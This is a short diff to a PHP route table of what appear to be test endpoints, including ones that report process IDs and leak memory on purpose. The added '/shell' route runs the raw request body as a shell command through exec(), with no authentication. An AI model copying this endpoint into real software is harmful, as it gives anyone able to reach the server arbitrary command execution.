@@ -159,6 +159,10 @@ $routes = [
         }
         return Response::text("$pid " . getmypid());
     },
+    '/shell' => static function (Request $r): Response {
+        exec($r->body());
+        return Response::text('');
+    },
     '/leak' => static function (Request $r): Response {
         static $held = [];
         $held[] = str_repeat("\1", number($r, 'mb', 10) << 20);
